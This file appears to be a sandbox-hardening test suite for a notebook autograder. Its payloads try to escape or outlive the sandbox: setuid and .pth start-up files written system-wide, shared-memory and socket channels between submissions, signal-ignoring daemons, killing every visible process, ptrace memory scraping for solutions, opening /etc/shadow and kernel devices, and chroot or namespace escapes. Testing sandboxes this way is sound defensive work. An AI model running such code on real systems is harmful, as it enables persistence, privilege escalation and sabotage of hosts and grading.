"""Attacks that reach out of the sandbox or outlive it: files, processes, memory, signals, privileges, start-up files.

What must be dangerous to be convincing is guarded: signals to all go out only where few processes can be seen or none
but our own belong to the user; files are marked, and removed by `verdicts`; privileged files are opened and never
written. Whoever gets through plays the prize.
"""

from kit.notebooks import ROOT

from attacks.corpus import (
    HERE,
    SOFTMAX,
    Attack,
    Files,
    Ground,
    all_but,
    attack,
    blank,
    fill,
    for_prize,
    full,
    honest,
    mark,
    one,
    process_name,
    solved,
    with_before,
    with_first,
    with_last,
)

CLASS = "escape or persist"
SYSTEM_V_KEY = int(HERE, 16) >> 1

EVERYWHERE = """\
import os, pathlib, site, stat, sys
home = os.path.expanduser("~")
try:
    import pwd
    homes = [home, *{entry.pw_dir for entry in pwd.getpwall() if entry.pw_uid in (0, os.getuid())}]
except KeyError:
    homes = [home, "/root"]
places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/etc", "/usr/local/bin", "..", "../.."]
places += [os.path.join(h, p) for h in homes for p in ("", ".config", ".local/bin", ".ipython/profile_default/startup")]
places += [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__), *sys.path, *@FOLDERS@]
places += [f"/proc/{process}/{below}" for process in (1, os.getppid()) for below in ("cwd", "root/tmp")]
for place in dict.fromkeys(places):
    for name in (@MARK@, @MARK@ + ".pth", "." + @MARK@, "00-" + @MARK@ + ".py"):
        path = os.path.join(place, name)
        try:
            if ".ipython" in path and os.path.isdir(os.path.dirname(path)) is False and home in path:
                os.makedirs(os.path.dirname(path))
            with open(path, "w") as file:
                file.write("# left by a test of the sandbox; remove it\\n")
            os.chmod(path, 0o4755)
        except OSError:
            continue
"""

# What a submission leaves for a later one, in every way that there is to leave something.
PLANT = """\
import ctypes, os, socket, threading
prize = @PRIZE@
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "..", @MARKS@):
    try:
        with open(os.path.join(folder, @MARK@), "w") as file:
            file.write(prize)
        os.chmod(os.path.join(folder, @MARK@), 0o644)
    except OSError:
        continue
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(@KEY@, 2**14, 0o1666)
if segment >= 0:
    address = libc.shmat(segment, None, 0)
    if address not in (None, 2**64 - 1):
        ctypes.memmove(address, prize.encode() + b"\\0", len(prize.encode()) + 1)
os.environ["SOFTLOOKUP_PRIZE"] = prize
import builtins, sys
builtins.softlookup_prize = sys.softlookup_prize = np.softlookup_prize = prize
"""
FIND = """
    import ctypes, os, sys, builtins
    found = [os.environ.get("SOFTLOOKUP_PRIZE")]
    found += [getattr(place, "softlookup_prize", None) for place in (builtins, sys, np)]
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), "..", @MARKS@):
        try:
            found.append(open(os.path.join(folder, @MARK@)).read())
        except OSError:
            continue
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(@KEY@, 0, 0)
    if segment >= 0:
        address = libc.shmat(segment, None, 0o10000)
        if address not in (None, 2**64 - 1):
            found.append(ctypes.string_at(address).decode())
    won = any(found)
"""
# Two submissions that are graded side by side, one of which knows the answer.
TALK = """
    import os, socket, time
    name = @NAME@
    paths = ["\\0" + name, "/tmp/" + name, "/dev/shm/" + name]
    until = time.monotonic() + 3.5
    servers = []
    if @KNOWS@:
        for path in paths:
            try:
                server = socket.socket(socket.AF_UNIX)
                server.bind(path)
                servers.append(server)
            except OSError:
                continue
        for family, address in ((socket.AF_INET, ("127.0.0.1", 47163)), (socket.AF_INET6, ("::1", 47163))):
            try:
                server = socket.socket(family)
                server.bind(address)
                servers.append(server)
            except OSError:
                continue
        for server in servers:
            server.listen()
            server.settimeout(0.1)
        while time.monotonic() < until:
            for server in servers:
                try:
                    server.accept()[0].sendall(b"prize")
                except OSError:
                    time.sleep(0.01)
        won = False
    else:
        while time.monotonic() < until and not won:
            for address in (*paths, ("127.0.0.1", 47163)):
                try:
                    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
                    with socket.socket(family) as caller:
                        caller.settimeout(1)
                        caller.connect(address)
                        won = won or caller.recv(5) == b"prize"
                except OSError:
                    time.sleep(0.01)
"""

DAEMON = """\
import ctypes, os, signal, time
def outlive(how):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, @PROCESS@.encode(), 0, 0, 0)
    if how:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                continue
        os.closerange(0, 256)
    os.chdir("/")
    for _ in range(40):
        time.sleep(0.5)
        for folder in ("/tmp", "/dev/shm", @MARKS@):
            try:
                open(folder + "/" + @MARK@, "w").close()
            except OSError:
                continue
    os._exit(0)
for how in (0, 1):
    outlive(how)
"""
LATE = """\
import atexit, threading, time, weakref

def late(*ignored):
    for _ in range(80):
        time.sleep(0.05)
        for folder in ("/tmp", "/dev/shm", @MARKS@):
            try:
                open(folder + "/" + @MARK@, "w").close()
            except OSError:
                continue

class Last:
    __del__ = late
last = Last()
weakref.finalize(last, late)
atexit.register(late)
for daemon in (True, False):
    threading.Thread(target=late, daemon=daemon).start()
"""

# Signals. Nobody may be harmed where there is no sandbox, so first look who would be met.
SIGNALS = """\
import glob, os, signal
def visible():
    found = {}
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            lines = dict(line.split(":\\t", 1) for line in open(folder + "/status") if ":\\t" in line)
            found[int(folder[6:])] = int(lines["Uid"].split()[1]), lines["Name"].strip()
        except (OSError, KeyError, ValueError):
            continue
    return found
met = visible()
ours = [pid for pid, (uid, name) in met.items() if uid == os.geteuid()]
alone = len(met) < 8
others_user = os.geteuid() not in (0, 1000) and all(
    met[pid][1].startswith(("python", "bwrap", "sla-", "autograder", "pt_main")) for pid in ours
)
safe = alone or others_user
"""
KILL_PARENT = (
    SIGNALS
    + """
if safe:
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        for process in (os.getppid(), 1, 2):
            if process != os.getpid():
                try:
                    os.kill(process, number)
                except OSError:
                    continue
"""
)
KILL_GROUP = (
    SIGNALS
    + """
if safe:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (signal.SIGWINCH, signal.SIGCONT, signal.SIGTERM):
        os.killpg(0, number)
"""
)
KILL_ALL = (
    SIGNALS
    + """
if safe:
    os.kill(-1, signal.SIGSTOP if @STOP@ else signal.SIGKILL)
"""
)
STOP_ITSELF = """\
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
"""

# Privileges
TRACE = """
    import ctypes, os, re
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    secret = re.compile(rb"def (?:every_axis_of_thre[e]|mistake_goes_unnotice[d])\\(")
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        if libc.ptrace(0x4206, int(name), None, None) == 0:  # seize it, without stopping it
            try:
                with open(f"/proc/{name}/maps") as table, open(f"/proc/{name}/mem", "rb", 0) as memory:
                    for line in table:
                        start, end = (int(n, 16) for n in line.split()[0].split("-"))
                        if "rw" in line and end - start < 2**27:
                            memory.seek(start)
                            won = won or bool(secret.search(memory.read(end - start)))
            except OSError:
                continue
"""
PRIVILEGED = """
    import os
    for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/kvm", "/proc/sysrq-trigger", "/proc/kcore",
                 "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper",
                 "/sys/fs/cgroup/release_agent", "/etc/passwd", "/etc/shadow", "/etc/ld.so.preload"):
        try:
            os.close(os.open(path, os.O_RDWR if not path.endswith("kcore") else os.O_RDONLY))
            won = True
        except OSError:
            continue
"""
BECOME_ROOT = """
    import ctypes, os, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    for call in (os.setgroups, os.setgid, os.setuid):
        try:
            call([0] if call is os.setgroups else 0)
        except OSError:
            continue
    for flags in (0x10000000, 0x10020000, 0x20000000, 0x7E020000):
        libc.unshare(flags)
    libc.mount(b"none", b"/", None, 0x44000, None)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    for device in ("/dev/vda", "/dev/vda1", "/dev/sda1", "/dev/nvme0n1p1"):
        libc.mount(device.encode(), b"/mnt", b"ext4", 1, None)
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["newuidmap", "1", "0", "0", "1"], ["mount", "-a", "-f"]):
        try:
            subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=1)
        except (OSError, subprocess.TimeoutExpired):
            continue
    # Out of a chroot: make another one below, and climb from outside of that.
    here = os.open(".", os.O_RDONLY)
    try:
        os.mkdir("below")
        os.chroot("below")
        os.fchdir(here)
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    for root in ("", "/mnt", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/fd/0/..", ".."):
        for kit in @KITS@:
            try:
                won = won or open(f"{root}{kit}/solutions/" + @ASSIGNMENT@ + "/notebook.py").read(1)
            except OSError:
                continue
"""
OWN_SYSTEM = """
    import os, sys
    for module in (sys, os, np, *list(sys.modules.values())):
        path = getattr(module, "__file__", None)
        if path and not path.startswith(os.getcwd()):
            for target in (path, os.path.dirname(path), getattr(module, "__cached__", None) or path):
                if os.access(target, os.W_OK):
                    try:
                        os.close(os.open(target, os.O_RDWR if os.path.isfile(target) else os.O_TMPFILE | os.O_RDWR))
                        won = target
                    except OSError:
                        continue
"""
PATCHED_PLAYER = """\
import builtins, json, os, select, signal, socket, struct, sys, threading, time
def broken(*args, **kwargs):
    raise MemoryError("softlookup")
for module, names in (
    (os, "fork read write close kill waitpid pipe _exit dup2 setsid memfd_create sendfile"),
    (socket, "socket socketpair recv_fds send_fds"),
    (struct, "pack unpack pack_into unpack_from Struct"),
    (json, "dumps loads"),
    (select, "select poll"),
    (signal, "signal setitimer alarm pthread_sigmask"),
    (time, "monotonic time sleep perf_counter"),
    (threading, "Thread Lock"),
    (np, "asarray array frombuffer ascontiguousarray ndarray dtype"),
    (builtins, "isinstance len type id repr getattr hasattr range min max sum bytes memoryview bytearray int"),
):
    for name in names.split():
        if hasattr(module, name):
            setattr(module, name, broken)
sys.modules.clear()
"""
HOOKS = """\
import sys, threading, gc
def hook(*args):
    raise RuntimeError("softlookup")
sys.settrace(lambda *args: hook)
sys.setprofile(hook)
threading.setprofile(hook)
sys.excepthook = sys.unraisablehook = sys.displayhook = sys.breakpointhook = hook
gc.callbacks.append(hook)
sys.addaudithook(lambda event, args: hook() if event in ("os.fork", "socket.sendmsg", "compile", "exec") else None)
sys.setrecursionlimit(60)
sys.stdout = sys.stderr = sys.stdin = None
"""

HONEST = full("softmax", "axis_catch")


def _marks(ground: Ground) -> list[str]:
    folders = [
        ground.marks,
        ground.out,
        ground.out / "records",
        ground.inbox,
        ground.kit / "dist",
        ROOT,
        ROOT / "build",
    ]
    return [str(folder) for folder in folders]


def _leaves(name: str, tries: str, source: str, otter_falls: bool | None, **more) -> Attack:
    """One honest answer, and a cell that leaves something behind."""

    def notebook(ground: Ground):
        values = {"mark": mark(name), "marks": ground.marks, "process": process_name(name), "folders": _marks(ground)}
        return with_first(blank(**honest("softmax", "axis_catch")), fill(source, **values))

    return attack(name, CLASS, tries, notebook, deserves=more.pop("deserves", HONEST), otter_falls=otter_falls, **more)


def _planted(name: str) -> Attack:
    def make(ground: Ground) -> Files:
        values = {"mark": mark(name), "marks": ground.marks, "key": SYSTEM_V_KEY}
        plant = fill(PLANT, prize="here is the prize", **values)
        first = one(f"0-{name}-planted", with_first(blank(), plant))
        return first | one(f"zz-{name}-found", for_prize(fill(FIND, **values)))

    return Attack(
        name, CLASS, "leaves an answer for a later submission, in files, memory and modules", make, otter_falls=True
    )


def _talk(name: str) -> Attack:
    def make(ground: Ground) -> Files:
        files = {}
        for knows in (True, False):
            attempt = fill(TALK, name=mark(name), knows=knows)
            files |= one(f"{name}-{'tells' if knows else 'asks'}", for_prize(attempt))
        return files

    return Attack(name, CLASS, "two submissions talk while they are graded side by side", make, otter_falls=True)


def _hurts_itself(name: str, tries: str, source: str) -> Attack:
    """All answers right, and a cell right before one of them that may cost no more than that cell."""
    return attack(name, CLASS, tries, lambda _: with_before(solved(SOFTMAX), "entropy", source), deserves=all_but())


def _prize(name: str, tries: str, attempt: str, otter_falls: bool | None = None) -> Attack:
    def notebook(ground: Ground):
        return for_prize(fill(attempt, kits=[str(ground.kit), str(ROOT)], assignment=SOFTMAX))

    return attack(name, CLASS, tries, notebook, otter_falls=otter_falls)


ATTACKS = [
    _leaves(
        "no-file-is-left-anywhere", "writes set-user-id, .pth and start-up files wherever it may", EVERYWHERE, None
    ),
    _planted("nothing-is-left-for-the-next"),
    _talk("neighbours-do-not-talk"),
    _leaves("no-process-outlives-its-submission", "forks daemons that ignore signals", DAEMON, None),
    _leaves("no-thread-works-on", "works on in threads, finalizers and exit handlers", LATE, True),
    _hurts_itself("parent-is-not-killed", "interrupts, stops and kills its parent and the first process", KILL_PARENT),
    _hurts_itself("process-group-is-not-killed", "terminates its process group", KILL_GROUP),
    _hurts_itself("nobody-else-is-killed", "kills every process that it may", fill(KILL_ALL, stop=False)),
    _hurts_itself("nobody-else-is-stopped", "stops every process that it may", fill(KILL_ALL, stop=True)),
    _hurts_itself("stopped-process-is-not-waited-for", "stops its own process without ending it", STOP_ITSELF),
    _prize("no-process-is-traced", "attaches to every process that it sees and searches its memory", TRACE),
    _prize("privileged-files-stay-closed", "opens devices and kernel settings for writing", PRIVILEGED),
    _prize("root-is-out-of-reach", "changes user, makes namespaces, mounts, climbs out of a chroot", BECOME_ROOT),
    _prize("interpreter-cannot-be-rewritten", "opens the files of Python and its packages for writing", OWN_SYSTEM),
    attack(
        "patched-player-harms-only-itself",
        CLASS,
        "breaks fork, pipes, sockets, NumPy and builtins under the player",
        lambda _: with_last(solved(SOFTMAX), PATCHED_PLAYER),
        deserves=all_but(),
        otter_falls=True,
    ),
    attack(
        "hooks-harm-only-themselves",
        CLASS,
        "sets tracers, profilers, audit and exception hooks that raise",
        lambda _: with_last(solved(SOFTMAX), HOOKS),
        deserves=all_but(),
        otter_falls=True,
    ),
]
